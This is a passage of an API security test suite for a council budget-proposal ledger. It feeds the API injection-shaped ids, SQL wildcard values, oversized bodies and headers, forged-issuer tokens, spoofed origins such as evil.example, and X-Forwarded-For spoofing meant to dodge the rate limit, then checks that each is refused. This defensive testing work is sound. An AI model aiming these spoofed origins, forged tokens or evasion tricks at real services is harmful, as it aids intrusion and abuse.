          if (!acceptable && value.trim() !== '')
            answers.push({ value: value.slice(0, 60), status: response.status, stray, faults });
        }
        expect(answers).toEqual([]);
      },
    );

    it('treats LIKE wildcards in department as literal text', async () => {
      const bearer = await bearerOf(people.auditor);
      for (const value of ['%', '_', '%Finance%', 'Finance%', 'F_nance and Revenues']) {
        const response = await http
          .get(`/api/v1/proposals?department=${encode(value)}`)
          .set('Authorization', bearer);
        expect({
          value,
          status: response.status,
          stray: strayRows('department', value, response.body.items ?? []),
        }).toEqual({ value, status: 200, stray: 0 });
      }
    });

    // A segment longer than the router's 200-character limit is fairly refused as 414 URI Too Long.
    const statusesForSegment = (value: string) =>
      encode(value).length > 200 ? [400, 404, 414] : [400, 404];

    it('answers injection-shaped ids with 400 or 404 on every id route', async () => {
      const idRoutes = ROUTES.filter((route) => route.template.includes(':id'));
      const wrong: { route: string; value: string; status: number; faults: string[] }[] = [];
      const before = await headPosition();
      for (const route of idRoutes) {
        const bearer = await bearerOf(route.as);
        for (const value of INJECTIONS.filter((text) => text.trim() !== '')) {
          const call = http[route.method.toLowerCase() as 'get' | 'post' | 'patch'](
            route.template.replace(':id', encode(value)),
          ).set('Authorization', bearer);
          const response = await (route.body ? call.send(route.body()) : call);
          const faults = [...problemFaults(response), ...internalsRevealed(response.text, [value])];
          if (!statusesForSegment(value).includes(response.status) || faults.length > 0)
            wrong.push({
              route: route.name,
              value: value.slice(0, 40),
              status: response.status,
              faults,
            });
        }
      }
      expect(wrong).toEqual([]);
      expect(await headPosition()).toBe(before);
    });

    it('answers injection-shaped fiscal years in the budget path with 400', async () => {
      const wrong: { method: string; value: string; status: number; faults: string[] }[] = [];
      const before = await headPosition();
      const bearer = await bearerOf(people.finance);
      for (const value of INJECTIONS.filter((text) => text.trim() !== '')) {
        for (const method of ['get', 'put'] as const) {
          const call = http[method](`/api/v1/budgets/${encode(value)}`).set(
            'Authorization',
            bearer,
          );
          const response = await (method === 'put' ? call.send(aBudgetBody()) : call);
          const faults = [...problemFaults(response), ...internalsRevealed(response.text, [value])];
          if (!statusesForSegment(value).includes(response.status) || faults.length > 0)
            wrong.push({ method, value: value.slice(0, 40), status: response.status, faults });
        }
      }
      expect(wrong).toEqual([]);
      expect(await headPosition()).toBe(before);
    });

    it.each([
      ['atPosition', (id: string) => `/api/v1/proposals/${id}?atPosition=99999999999999999999`],
      ['atPosition', (id: string) => `/api/v1/proposals/${id}?atPosition=9223372036854775808`],
      ['atPosition', (id: string) => `/api/v1/proposals/${id}?atPosition=1e300`],
      ['asOf', (id: string) => `/api/v1/proposals/${id}?asOf=99999-01-01T00:00:00Z`],
      ['asOf', (id: string) => `/api/v1/proposals/${id}?asOf=0000-01-01T00:00:00.000Z`],
      ['after', () => '/api/v1/audit/events?after=99999999999999999999'],
      ['after', () => '/api/v1/audit/export?after=9223372036854775808'],
      [
        'position',
        () => `/api/v1/audit/verify?position=99999999999999999999&hash=${'a'.repeat(64)}`,
      ],
      ['budget', () => '/api/v1/portfolio/priorities?fiscalYear=2026-27&budget=999999999999.99'],
      ['asOf', () => '/api/v1/portfolio/summary?fiscalYear=2026-27&asOf=0001-01-01T00:00:00.000Z'],
      ['limit', () => '/api/v1/proposals?limit=1e2'],
    ])('answers an out-of-range %s with 400 or 200, never a 500 (%#)', async (_name, path) => {
      const response = await http
        .get(path(proposals.submitted[0]))
        .set('Authorization', await bearerOf(people.auditor));
      // A 200 carries stored data: the proposal list echoes titles other tests here stored, which
      // include SQL-shaped text, so only a refusal is searched for internals (this flaked once, when
      // such a proposal was among the newest 100).
      const refused = response.status >= 400;
      expect({
        status: response.status,
        faults: refused ? problemFaults(response) : [],
        leaks: refused ? internalsRevealed(response.text) : [],
      }).toEqual({ status: expect.any(Number), faults: [], leaks: [] });
      expect([200, 400, 422]).toContain(response.status);
    });
  });

  describe('body size, headers, CORS', () => {
    it('refuses a body over the default 1 MiB limit with 413 problem+json and records nothing', async () => {
      const before = await headPosition();
      const response = await http
        .post('/api/v1/proposals')
        .set('Authorization', await bearerOf(people.proposer))
        .set('Content-Type', 'application/json')
        .send(JSON.stringify(aDraftBody({ summary: 'x'.repeat(1024 * 1024) })));
      expectProblem(response, 413);
      expect(await headPosition()).toBe(before);
    });

    it('sends the security headers on successes, refusals and public routes', async () => {
      const bearer = await bearerOf(people.auditor);
      const answers = [
        await http.get('/api/v1/proposals').set('Authorization', bearer),
        await http.get('/api/v1/proposals'),
        await http.get('/api/v1/nothing-here').set('Authorization', bearer),
        await http.post('/api/v1/proposals').set('Authorization', bearer).send({}),
        await http.get('/health'),
        await http.get('/metrics'),
      ];
      for (const response of answers) {
        const csp = String(response.headers['content-security-policy'] ?? '');
        expect({
          url: response.request.url,
          nosniff: response.headers['x-content-type-options'],
          framing:
            /^(DENY|SAMEORIGIN)$/i.test(String(response.headers['x-frame-options'] ?? '')) ||
            /frame-ancestors\s+('none'|'self')/.test(csp),
          poweredBy: response.headers['x-powered-by'],
        }).toEqual({
          url: response.request.url,
          nosniff: 'nosniff',
          framing: true,
          poweredBy: undefined,
        });
      }
    });

    it('gives no Access-Control-Allow-Origin when no CORS origins are configured', async () => {
      const simple = await http
        .get('/api/v1/proposals')
        .set('Origin', PORTAL)
        .set('Authorization', await bearerOf(people.auditor));
      const preflight = await http
        .options('/api/v1/proposals')
        .set('Origin', PORTAL)
        .set('Access-Control-Request-Method', 'POST')
        .set('Access-Control-Request-Headers', 'authorization,content-type');
      expect(simple.status).toBe(200);
      expect(simple.headers['access-control-allow-origin']).toBeUndefined();
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
      expect(preflight.headers['access-control-allow-credentials']).toBeUndefined();
    });

    it("answers a header section over Node's 16 KiB limit with 431 problem+json", async () => {
      const response = await http
        .get('/api/v1/proposals')
        .set('Authorization', `Bearer ${'A'.repeat(20_000)}`);
      expectProblem(response, 431);
    });

    it('answers a read far ahead of the log with 400 problem+json at once, naming the head', async () => {
      const response = await http
        .get('/api/v1/proposals')
        .set('Authorization', await bearerOf(people.auditor))
        .set('X-Min-Position', '999999999999999');
      expectProblem(response, 400, 'min-position-beyond-head');
      expect(response.body.headPosition).toEqual(expect.any(Number));
    });
  });

  describe('text a database cannot store as it is', () => {
    let fresh: TestApp;
    let on: Http;

    // A fresh app per case, so one stopped projection cannot be blamed on the next case.
    beforeEach(async () => {
      fresh = await startTestApp(kind, createApp, ENV);
      on = request(fresh.app.getHttpServer());
    });

    afterEach(async () => {
      await fresh?.close();
    });

    it.each([
      ['a NUL character', '\u0000'],
      ['a lone surrogate', '\ud800'],
    ])(
      'either refuses a proposal whose text holds %s, or records it without stopping a projection',
      async (_label, text) => {
        const bearer = await tokenMinter(fresh.config).bearer(people.proposer);
        const before = await headPosition(on);
        const response = await on
          .post('/api/v1/proposals')
          .set('Authorization', bearer)
          .send(aDraftBody({ title: `Replace${text}the system`, department: `Digital${text}` }));

        if (response.status === 400) {
          expectProblem(response, 400);
          expect(await headPosition(on)).toBe(before);
          return;
        }
        expect(response.status).toBe(201);
        const listed = await on
          .get('/api/v1/proposals')
          .set('Authorization', bearer)
          .set('X-Min-Position', String(response.body.position));
        const health = await on.get('/health');
        expect({
          listed: listed.status,
          health: health.body.status,
          stopped: (health.body.projections as { failedPosition: number | null }[]).filter(
            (projection) => projection.failedPosition !== null,
          ),
        }).toEqual({ listed: 200, health: 'ok', stopped: [] });
      },
      20_000,
    );
  });

  describe('a hardened configuration (issuer, audience, body limit, CORS origins)', () => {
    let hardened: TestApp;
    let on: Http;

    beforeAll(async () => {
      hardened = await startTestApp(kind, createApp, HARDENED_ENV);
      on = request(hardened.app.getHttpServer());
    });

    afterAll(async () => {
      await hardened?.close();
    });

    const good = () => signHs(ADMIN_CLAIMS, { issuer: ISSUER, audience: AUDIENCE });

    it('accepts a token with the configured issuer and audience', async () => {
      const viaMinter = await tokenMinter(hardened.config).bearer(people.auditor);
      expect(
        (await on.get('/api/v1/policy').set('Authorization', `Bearer ${await good()}`)).status,
      ).toBe(200);
      expect((await on.get('/api/v1/policy').set('Authorization', viaMinter)).status).toBe(200);
    });

    it.each([
      ['no issuer or audience', {}],
      ['the wrong issuer', { issuer: 'https://id.evil.example', audience: AUDIENCE }],
      ['no issuer', { audience: AUDIENCE }],
      ['the issuer with a trailing slash', { issuer: `${ISSUER}/`, audience: AUDIENCE }],
      ['the wrong audience', { issuer: ISSUER, audience: 'another-api' }],
      ['no audience', { issuer: ISSUER }],
      ['an audience list without the ledger', { issuer: ISSUER, audience: ['a', 'b'] }],
    ])('refuses a token with %s', async (_label, options) => {
      const before = await headPosition(on);
      const token = await signHs(ADMIN_CLAIMS, options);
      expectProblem(
        await on.get('/api/v1/policy').set('Authorization', `Bearer ${token}`),
        401,
        'invalid-token',
      );
      expectProblem(
        await on
          .put('/api/v1/budgets/2040-41')
          .set('Authorization', `Bearer ${token}`)
          .send(aBudgetBody()),
        401,
        'invalid-token',
      );
      expect(await headPosition(on)).toBe(before);
    });

    it('refuses a body over LEDGER_BODY_LIMIT with 413 problem+json and records nothing, and accepts one under it', async () => {
      const bearer = await tokenMinter(hardened.config).bearer(people.proposer);
      const before = await headPosition(on);
      const over = JSON.stringify(aDraftBody({ summary: 'x'.repeat(3000) }));
      const overNoToken = await on
        .post('/api/v1/proposals')
        .set('Content-Type', 'application/json')
        .send(over);
      const overWithToken = await on
        .post('/api/v1/proposals')
        .set('Authorization', bearer)
        .set('Content-Type', 'application/json')
        .send(over);
      expect(over.length).toBeGreaterThan(2048);
      expect([401, 413]).toContain(overNoToken.status);
      expect(problemFaults(overNoToken)).toEqual([]);
      expectProblem(overWithToken, 413);
      expect(await headPosition(on)).toBe(before);

      const under = JSON.stringify(aDraftBody({ summary: 'x'.repeat(1000) }));
      expect(under.length).toBeLessThan(2048);
      const accepted = await on
        .post('/api/v1/proposals')
        .set('Authorization', bearer)
        .set('Content-Type', 'application/json')
        .send(under);
      expect(accepted.status).toBe(201);
    });

    it('allows the configured origin, on simple requests and preflights', async () => {
      const bearer = await tokenMinter(hardened.config).bearer(people.auditor);
      const simple = await on
        .get('/api/v1/proposals')
        .set('Origin', PORTAL)
        .set('Authorization', bearer);
      const preflight = await on
        .options('/api/v1/proposals')
        .set('Origin', PORTAL)
        .set('Access-Control-Request-Method', 'POST')
        .set('Access-Control-Request-Headers', 'authorization,content-type,if-match');
      expect(simple.status).toBe(200);
      expect(simple.headers['access-control-allow-origin']).toBe(PORTAL);
      expect(preflight.status).toBeLessThan(300);
      expect(preflight.headers['access-control-allow-origin']).toBe(PORTAL);
    });

    it.each([
      'https://evil.example',
      `${PORTAL}.evil.example`,
      'https://evil-portal.council.example',
      'http://portal.council.example',
      'null',
    ])('gives no Access-Control-Allow-Origin to %s', async (origin) => {
      const bearer = await tokenMinter(hardened.config).bearer(people.auditor);
      const simple = await on
        .get('/api/v1/proposals')
        .set('Origin', origin)
        .set('Authorization', bearer);
      const preflight = await on
        .options('/api/v1/proposals')
        .set('Origin', origin)
        .set('Access-Control-Request-Method', 'POST');
      for (const response of [simple, preflight]) {
        expect(response.headers['access-control-allow-origin']).toBeUndefined();
      }
    });
  });

  describe('rate limiting', () => {
    let limited: TestApp;
    let on: Http;
    let bearer: string;

    // A fresh app per test: the limiter's memory would otherwise carry one test's requests into the next.
    beforeEach(async () => {
      limited = await startTestApp(kind, createApp, { ...ENV, LEDGER_RATE_LIMIT: '5' });
      on = request(limited.app.getHttpServer());
      bearer = await tokenMinter(limited.config).bearer(people.auditor);
    });

    afterEach(async () => {
      await limited?.close();
    });

    it('answers the sixth request in a minute from one client with 429 problem+json', async () => {
      const statuses: number[] = [];
      for (let index = 0; index < 5; index += 1) {
        statuses.push((await on.get('/api/v1/policy').set('Authorization', bearer)).status);
      }
      expect(statuses).toEqual([200, 200, 200, 200, 200]);

      expectProblem(await on.get('/api/v1/policy').set('Authorization', bearer), 429);
    });

    it('never limits /health or /metrics, even once the client is limited elsewhere', async () => {
      for (let index = 0; index < 6; index += 1) {
        await on.get('/api/v1/policy').set('Authorization', bearer);
      }
      const statuses: Record<string, number[]> = { '/health': [], '/metrics': [] };
      for (let index = 0; index < 12; index += 1) {
        for (const path of ['/health', '/metrics'])
          statuses[path].push((await on.get(path)).status);
      }
      expect(statuses).toEqual({ '/health': Array(12).fill(200), '/metrics': Array(12).fill(200) });
    });

    it("counts a client's requests across routes, not per route", async () => {
      const spread = [
        '/api/v1/policy',
        '/api/v1/proposals',
        '/api/v1/audit/digest',
        `/api/v1/budgets/${FISCAL_YEAR}`,
        '/api/v1/audit/events',
      ];
      const statuses: number[] = [];
      for (const path of spread) {
        statuses.push((await on.get(path).set('Authorization', bearer)).status);
      }
      expect(statuses).toEqual([200, 200, 200, 200, 200]);

      const sixth = await on
        .get(`/api/v1/portfolio/summary?fiscalYear=${FISCAL_YEAR}`)
        .set('Authorization', bearer);
      const withoutToken = await on.get('/api/v1/audit/verify');
      expectProblem(sixth, 429);
      expectProblem(withoutToken, 429);
    });

    it('does not let a client escape the limit by claiming another address in X-Forwarded-For', async () => {
      for (let index = 0; index < 5; index += 1) {
        await on.get('/api/v1/policy').set('Authorization', bearer);
      }
      expectProblem(await on.get('/api/v1/policy').set('Authorization', bearer), 429);

      const statuses: number[] = [];
      for (let index = 0; index < 6; index += 1) {
        const response = await on
          .get('/api/v1/policy')
          .set('Authorization', bearer)
          .set('X-Forwarded-For', `203.0.113.${index + 10}`);
        statuses.push(response.status);
      }
      expect(statuses).toEqual(Array(6).fill(429));
    });
  });
});
